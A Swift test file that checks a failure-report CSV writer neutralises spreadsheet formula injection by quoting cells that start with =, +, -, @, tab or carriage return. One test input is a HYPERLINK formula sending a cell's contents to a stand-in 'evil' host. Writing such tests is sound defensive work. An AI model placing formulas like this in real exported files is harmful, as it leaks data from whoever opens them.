import Storage
import Testing

/// The failure report's CSV, as a spreadsheet opens it.
@Suite struct FailureReportTests {
    @Test func cellsASpreadsheetWouldRunAsFormulasStartWithAQuote() {
        let line = FailureReport.csvLine([
            "7", #"=HYPERLINK("http://evil/?"&A2,"x")"#, "+15551230001", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain",
        ])
        #expect(
            line
                == #"7,"'=HYPERLINK(""http://evil/?""&A2,""x"")",'+15551230001,'-2+3,'@SUM(A1),'"#
                + "\tx,\"'\rx\",plain\r\n"
        )
    }

    @Test func ordinaryCellsAreLeftAsTheyAre() {
        #expect(
            FailureReport.csvLine(["1", "a@b.example", nil, "Email: No marketing consent"])
                == "1,a@b.example,,Email: No marketing consent\r\n"
        )
    }
}
